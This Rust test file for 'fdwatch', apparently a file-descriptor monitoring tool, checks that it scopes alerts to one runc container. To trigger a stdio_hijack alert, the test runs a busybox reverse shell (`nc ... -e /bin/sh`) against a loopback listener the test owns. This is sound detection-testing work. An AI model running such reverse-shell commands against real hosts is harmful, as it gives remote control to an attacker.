//! Containers (issue 16): a real runc container (tests/src/runc.rs: Debian's runc, a
//! busybox rootfs laid out by the test) whose processes put a loopback TCP socket on
//! their stdio (busybox `nc -e`, a reverse shell) and leak a pipe (`$(sleep 30 & ...)`,
//! the pipe_leak shape of alert_pipe.rs); fdwatch `--container PREFIX` reports exactly
//! that container's processes, including one `runc exec` starts after fdwatch, names
//! the container and runtime in every record (a cgroup nested in its own included), and
//! forgets it once it is deleted.
use std::{
    io::{Read, Write},
    net::TcpListener,
};

use fdwatch_tests::{alerts::*, runc::Container, *};

/// Records that name a process (and so its container).
fn of_a_process(r: &Value) -> bool {
    matches!(r["type"].as_str(), Some("event" | "alert" | "fd" | "resync")) && r.get("pid").is_some()
}

#[test]
fn a_runc_containers_alerts_name_it_and_container_watches_only_it_including_later_processes() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let id = Container::unique_id("alerts");
    // nc -e: connect, the socket onto fds 0, 1 and 2, exec sh on it (a reverse shell).
    // $(...): this sh reads a pipe whose write end its subshell gave to `sleep 30 &`
    // before exiting: a pipe_leak. Neither needs anything the rootfs lacks.
    let script = format!("echo started; nc 127.0.0.1 {port} -e /bin/sh & x=$(sleep 30 & echo bg); echo done");
    let (container, mut stdio) = Container::create(&id, &script);
    let init = container.init_pid();
    // A prefix of the id is enough (its last characters left off).
    let prefix = &id[..id.len() - 3];
    let fw = Fdwatch::start(&["--container", prefix, "--stats-interval", "1"]);
    let ready = fw.records().remove(0);
    assert_eq!(ready["container"], json!({"id": id, "runtime": "runc"}), "{ready}");
    assert_eq!(ready["cgroup_path"], format!("/{id}"), "{ready}");

    // A process outside the container, while fdwatch runs: none of its events may show.
    let mut host = Proc::run("/bin/sh", &["-c", "exec 3</dev/null; echo host"], "a shell on the host");
    host.line("host");
    host.finish_ok();
    // And signals sent on the host (the stop and continue signals fdwatch traces).
    let sleeper = Proc::run("/bin/sleep", &["30"], "a sleep on the host");
    for sig in [libc::SIGSTOP, libc::SIGCONT] {
        // SAFETY: kill has no memory-safety preconditions; the sleep is this test's child.
        assert_eq!(unsafe { libc::kill(sleeper.pid() as i32, sig) }, 0);
    }

    container.start();
    stdio.line("started");
    let mut conn = accept(&listener, "the container's reverse shell");
    let in_container = |r: &Value| r["container"]["id"] == id;
    let hijack = fw.expect("a stdio_hijack alert in the container", DEADLINE, |r| {
        r["type"] == "alert" && r["kind"] == "stdio_hijack" && in_container(r)
    });
    assert_eq!(hijack["container"], json!({"id": id, "runtime": "runc"}), "{hijack}");
    assert_eq!(hijack["cgroup"]["path"], format!("/{id}"), "{hijack}");
    // Moved into a cgroup nested in the container's: still the container's, for the
    // kernel's filter and for the records. Then it shows it is a real shell on the socket.
    let shell = hijack["pid"].as_i64().unwrap();
    container.move_to_nested(shell, "nested");
    conn.write_all(b"cat /bin/busybox >/dev/null; echo $((6*7)); exit\n").unwrap();
    let mut answer = String::new();
    conn.read_to_string(&mut answer).unwrap();
    assert_eq!(answer.trim(), "42", "the reverse shell's answer");

    let nested = fw.expect(&format!("an event of the reverse shell {shell} in the nested cgroup"), DEADLINE, |r| {
        r["type"] == "event" && r["pid"] == shell && r["cgroup"]["path"] == format!("/{id}/nested")
    });
    assert!(in_container(&nested), "{nested}");

    let leak = fw.expect(&format!("a pipe_leak alert for the container's sh (pid {init})"), DEADLINE, |r| {
        r["type"] == "alert" && r["kind"] == "pipe_leak" && r["pid"] == init
    });
    assert_eq!(leak["container"], json!({"id": id, "runtime": "runc"}), "{leak}");
    let holders = leak["holders"].as_array().unwrap();
    assert_eq!(holders.len(), 1, "{leak}");
    assert_eq!(holders[0]["container"]["id"], id, "the holder is in the container too: {leak}");

    // A process the container starts after fdwatch did: in the same cgroup, so watched.
    let late = container.exec("cat /bin/busybox >/dev/null");
    let event = fw
        .expect(&format!("an event of pid {late} (runc exec)"), DEADLINE, |r| r["type"] == "event" && r["pid"] == late);
    assert!(in_container(&event), "{event}");

    // Deleted: its processes exit, and nothing of it stays.
    container.delete();
    let stats = fw.expect("a stats record with no process and no cgroup left", DEADLINE, |r| {
        r["type"] == "stats" && r["processes"] == 0 && r["cgroups"] == 0 && r["tracked_fds"] == 0
    });
    let records = stop(fw);
    let strangers: Vec<&Value> = records.iter().filter(|r| of_a_process(r) && !in_container(r)).collect();
    assert!(strangers.is_empty(), "records of processes outside container {id}: {strangers:#?}");
    for (pid, what) in [(host.pid(), "the host shell"), (my_pid(), "this test (signals)"), (sleeper.pid(), "sleep")] {
        assert!(records.iter().all(|r| r["pid"] != pid), "{what} (pid {pid}) was reported");
    }
    assert!(records.iter().any(|r| r["type"] == "event" && r["pid"] == init), "no event of the container's sh");
    let _ = stats;
}

#[test]
fn an_unknown_or_ambiguous_container_is_a_usage_error_naming_it() {
    let me = std::process::id();
    let unknown = format!("fdwatch-{me}-none");
    let (status, records, stderr) = Fdwatch::spawn(&["--container", &unknown]).outcome(DEADLINE);
    assert_eq!(status.code(), Some(2), "{stderr}");
    assert!(records.is_empty(), "{records:?}");
    assert_eq!(stderr.lines().count(), 1, "one line: {stderr}");
    assert!(
        stderr.contains(&format!("--container {unknown}: no running container's id starts with \"{unknown}\"")),
        "{stderr}"
    );

    // Two containers created (not started) whose ids share the prefix.
    let (a, b) = (format!("fdwatch-{me}-amb-1"), format!("fdwatch-{me}-amb-2"));
    let _first = Container::create(&a, "true");
    let _second = Container::create(&b, "true");
    let prefix = format!("fdwatch-{me}-amb-");
    let (status, _, stderr) = Fdwatch::spawn(&["--container", &prefix]).outcome(DEADLINE);
    assert_eq!(status.code(), Some(2), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "one line: {stderr}");
    assert!(stderr.contains(&format!("names 2 containers: {a} (runc), {b} (runc); give more of the id")), "{stderr}");
    // The whole id is one of them.
    let fw = Fdwatch::start(&["--container", &a]);
    assert_eq!(fw.records()[0]["container"]["id"], a);
    let _ = stop(fw);
}
